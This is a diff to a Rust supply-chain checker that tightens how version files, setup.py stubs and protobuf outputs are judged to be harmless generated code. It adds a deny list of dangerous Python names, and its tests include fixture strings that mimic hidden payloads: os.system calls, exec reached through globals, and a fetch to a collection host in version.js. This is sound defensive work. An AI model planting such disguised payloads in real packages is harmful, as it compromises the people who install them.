@@ -92,15 +92,144 @@ fn is_built(path: &str) -> bool {
     })
 }
 
-/// What publishing tools write themselves.
+/// What publishing tools write themselves, by what it says: a name is no proof of anything.
 fn is_generated(file: &SourceFile) -> bool {
-    let name = file.path.file_name();
-    file.text.len() < 2_000 && matches!(name, "_version.py" | "version.py" | "_version.ts" | "version.js" | "version.ts")
-        || name.ends_with("_pb2.py")
-        || name.ends_with("_pb2_grpc.py")
-        || file.text.trim().is_empty()
-        // The sdist's own stub, and what setuptools makes of a pyproject.
-        || name == "setup.py" && file.text.len() < 200
+    let (name, text) = (file.path.file_name(), file.text.as_str());
+    match name {
+        _ if text.trim().is_empty() => true,
+        "_version.py" | "version.py" | "_version.ts" | "version.js" | "version.ts" => says_only_a_version(text),
+        // The sdist's own stub.
+        "setup.py" => text.lines().map(str::trim).all(|line| {
+            line.is_empty()
+                || line.starts_with('#')
+                || matches!(
+                    line,
+                    "import setuptools" | "from setuptools import setup" | "setup()" | "setuptools.setup()"
+                )
+                || matches!(line, "if __name__ == \"__main__\":" | "if __name__ == '__main__':")
+        }),
+        _ if name.ends_with("_pb2.py") || name.ends_with("_pb2_grpc.py") => is_protocol(text),
+        _ => false,
+    }
+}
+
+/// Assignments of texts and numbers: nothing is called, nothing of elsewhere is run.
+fn says_only_a_version(text: &str) -> bool {
+    const MARK: &str = "Object.defineProperty(exports, \"\", { value: true })";
+    let Some(code) = bare(text).filter(|_| text.len() < 2_000) else {
+        return false;
+    };
+    let code = code.replace(MARK, "");
+    // `from typing import Tuple` is there for whoever checks types.
+    let types = |line: &str| line.starts_with("from typing import ") || line == "from __future__ import annotations";
+    let runs = |w: &str| matches!(w, "import" | "from" | "require" | "new" | "class" | "def" | "function" | "lambda");
+    let lines = code.lines().map(str::trim).filter(|line| !types(line));
+    !calls(&code) && !code.contains(['`', '@', '>']) && !lines.flat_map(|line| line.split(|c: char| !c.is_alphanumeric())).any(runs)
+}
+
+/// Whether anything is called: a parenthesis right after a name, a bracket or another parenthesis.
+fn calls(code: &str) -> bool {
+    let called = |(at, _)| {
+        let before = code[..at].trim_end();
+        before.ends_with(|c: char| c.is_alphanumeric() || matches!(c, '_' | '$' | ')' | ']' | '}' | '"'))
+    };
+    code.match_indices('(').any(called)
+}
+
+/// What the compilers of protocol buffers and gRPC write: it imports nothing but their libraries and its like, and uses nothing
+/// by which more could be reached.
+fn is_protocol(text: &str) -> bool {
+    const MORE: &[&str] = &[
+        "exec",
+        "eval",
+        "compile",
+        "open",
+        "locals",
+        "vars",
+        "getattr",
+        "setattr",
+        "modules",
+        "importlib",
+        "builtins",
+        "os",
+        "subprocess",
+        "socket",
+        "insecure_channel",
+        "secure_channel",
+        "environ",
+        "ctypes",
+        "pickle",
+        "marshal",
+        "breakpoint",
+        "input",
+    ];
+    let Some(code) = bare(text) else { return false };
+    let imports = code
+        .lines()
+        .map(str::trim)
+        .filter(|line| line.starts_with("import ") || line.starts_with("from "));
+    let mut imports = imports.map(|line| {
+        let mut words = line.split_whitespace();
+        let (_, from) = (words.next(), words.next().unwrap_or_default());
+        let known =
+            matches!(from, "grpc" | "grpc.experimental" | "sys" | "warnings" | "typing" | "__future__") || from.starts_with("google.");
+        (known || line.contains("_pb2")) && !line.contains([';', ','])
+    });
+    // `_globals['_X']._serialized_start = 47`, and the table of names handed to the library: nothing is taken out of it.
+    let mut globals = code.lines().map(str::trim).filter(|line| line.contains("globals"));
+    let fills = |line: &str| line == "_globals = globals()" || line.starts_with("_builder.") || line.starts_with("_globals[\"\"]._");
+    let mut words = code.split(|c: char| !(c.is_alphanumeric() || c == '_'));
+    text.contains("DO NOT EDIT!")
+        && globals.all(fills)
+        && imports.all(|known| known)
+        && !words.any(|word| {
+            MORE.contains(&word)
+                || word.starts_with("__") && word.ends_with("__") && !matches!(word, "__module__" | "__doc__" | "__init__" | "__name__")
+        })
+}
+
+/// Code without comments, its texts emptied; none when a text holds code of its own or has no end. Good for small plain files:
+/// `#` and `//` both begin a comment.
+fn bare(text: &str) -> Option<String> {
+    let mut out = String::with_capacity(text.len());
+    let mut rest = text;
+    while let Some(at) = rest.find(['"', '\'', '#', '/']) {
+        out.push_str(&rest[..at]);
+        let from = &rest[at..];
+        let end_of_line = from.find('\n').unwrap_or(from.len());
+        rest = if from.starts_with("/*") {
+            from.split_once("*/")?.1
+        } else if from.starts_with('#') || from.starts_with("//") {
+            &from[end_of_line..]
+        } else if let Some(divided) = from.strip_prefix('/') {
+            out.push('/');
+            divided
+        } else {
+            let quote = ["\"\"\"", "\'\'\'", "\"", "\'"].into_iter().find(|quote| from.starts_with(quote))?;
+            // `f"{run()}"` runs.
+            if out.ends_with(['f', 'F', 't', 'T']) || out.ends_with("fr") || out.ends_with("fR") {
+                return None;
+            }
+            out.push_str("\"\"");
+            after_text(&from[quote.len()..], quote)?
+        };
+    }
+    out.push_str(rest);
+    Some(out)
+}
+
+/// What follows a text after its closing quote.
+fn after_text<'t>(text: &'t str, quote: &str) -> Option<&'t str> {
+    let mut at = 0;
+    loop {
+        at += text[at..].find([quote.chars().next()?, '\\', '\n'])?;
+        match &text[at..] {
+            rest if rest.starts_with(quote) => return Some(&rest[quote.len()..]),
+            rest if rest.starts_with('\\') => at += 1 + rest[1..].chars().next()?.len_utf8(),
+            rest if rest.starts_with('\n') && quote.len() == 1 => return None,
+            _ => at += 1,
+        }
+    }
 }
 
 /// Line ends and trailing blanks are no difference.
@@ -343,6 +472,54 @@ mod tests {
         assert_eq!(out.added_hosts, ["dist/index.js: collect.example.net"]);
         assert_eq!(out.added_in_manifest, ["dependency flat-stream", "postinstall: node setup.js"]);
         assert_eq!((out.same, out.bundled), (2, 0));
+    }
+
+    #[test]
+    fn a_name_of_generated_files_hides_nothing() {
+        let steals = "import os\n__version__ = '1.0'\nos.system('steal')\n";
+        let ours = files(&[
+            ("pkg/_version.py", steals),
+            ("pkg/version.py", "__version__ = f'{steal()}'\n"),
+            (
+                "pkg/a_pb2.py",
+                &format!("# Generated by the protocol buffer compiler.  DO NOT EDIT!\n{steals}"),
+            ),
+            ("pkg/b_pb2_grpc.py", "# DO NOT EDIT!\nimport grpc, os\n"),
+            ("pkg/c_pb2.py", "# DO NOT EDIT!\nimport grpc\ngetattr(grpc, 'x')\n"),
+            (
+                "pkg/d_pb2.py",
+                "# DO NOT EDIT!\n_globals = globals()\nrun = _globals['__builtins__']['exec']\nrun('steal')\n",
+            ),
+            ("setup.py", "import setup_helper\n"),
+            ("version.js", "fetch('https://collect.example.net')"),
+            ("version.ts", "import './hidden.js'; export const version = '1';"),
+        ]);
+        let out = compare_with_repository(&ours, &files(THEIRS));
+        assert_eq!((out.same, out.only_in_package.len()), (0, ours.len()), "{out:?}");
+    }
+
+    #[test]
+    fn what_publishing_tools_write_is_no_difference() {
+        let scm = "# file generated by setuptools-scm\n__all__ = [\"__version__\"]\nTYPE_CHECKING = False\nif TYPE_CHECKING:\n    from typing import Tuple\n    V = Tuple[int, str]\nelse:\n    V = object\n__version__ = version = '1.2.3+(dirty)'\nversion_tuple = (1, 2, 3)\n";
+        let ours = files(&[
+            ("pkg/_version.py", scm),
+            (
+                "pkg/version.py",
+                "\"\"\"The (only) version.\"\"\"\n__version__ = \"1.0\"  # set by hatch\n",
+            ),
+            (
+                "version.js",
+                "\"use strict\";\nObject.defineProperty(exports, \"__esModule\", { value: true });\nexports.VERSION = void 0;\nexports.VERSION = '1.0'; // by the build\n",
+            ),
+            (
+                "pkg/a_pb2.py",
+                "# -*- coding: utf-8 -*-\n# Generated by the protocol buffer compiler.  DO NOT EDIT!\nfrom google.protobuf import descriptor_pool as _descriptor_pool\nfrom pkg import base_pb2 as base__pb2\nDESCRIPTOR = _descriptor_pool.Default().AddSerializedFile(b'\\n\\x07os.exec')\n_globals = globals()\n_builder.BuildMessageAndEnumDescriptors(DESCRIPTOR, _globals)\n_globals['_A']._serialized_start=47\n",
+            ),
+            ("setup.py", "from setuptools import setup\n\nsetup()\n"),
+            ("pkg/__init__.py", "\n"),
+        ]);
+        let out = compare_with_repository(&ours, &files(THEIRS));
+        assert_eq!((out.same, out.only_in_package.len()), (ours.len() as u64, 0), "{out:?}");
     }
 
     #[test]
